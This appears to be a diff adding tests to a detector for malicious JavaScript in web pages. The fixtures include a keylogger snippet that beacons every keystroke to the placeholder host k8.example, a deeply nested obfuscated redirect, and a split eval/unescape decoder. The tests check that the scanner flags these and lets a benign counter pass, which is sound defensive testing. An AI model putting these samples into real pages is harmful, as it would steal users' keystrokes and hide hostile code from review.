@@ -104,6 +104,22 @@ def test_a_cap_is_reported_after_the_findings():
     assert found
 
 
+@pytest.mark.parametrize("deep", ["{}", "eval('{}')"], ids=["itself", "what it runs"])
+def test_what_is_nested_too_deep_is_not_called_clean(deep):
+    nested = f"location[{'[' * 900}'hr'+'ef'{']' * 900}]=String.fromCharCode(47)"
+    with pytest.raises(NotFullyRead, match="depth"):
+        said(page(f"<script>{deep.format(nested.replace(chr(39), '`'))}</script>"))
+
+
+@pytest.mark.parametrize("added", ["{0};{1}", "{1};{0}"], ids=["before", "behind"])
+def test_what_was_added_to_a_long_file_is_read_by_itself(added):
+    library = f"!function(w){{{'w.count=(w.count||0)+1;' * 2000}}}(window)"
+    keys = "let k='';onkeydown=e=>{k+=e.key;navigator.sendBeacon('https://k8.example/k',k)}"
+    clean = "let k=0;onkeydown=e=>{k+=1;navigator.sendBeacon('/count',k)}"
+    assert said(page(added.format(keys, library), HOME + "a.js", "application/javascript"))
+    assert not said(page(added.format(clean, library), HOME + "a.js", "application/javascript"))
+
+
 def test_two_scripts_that_work_together_are_read_together():
     decoder = "".join(f"function a{i}(){{return '{part}'}};" for i, part in enumerate(["ev", "al", "un", "escape"]))
     assert said(page(f"<script>{decoder}</script><script>this[a0()+a1()](this[a2()+a3()](document.t.value))</script>"))
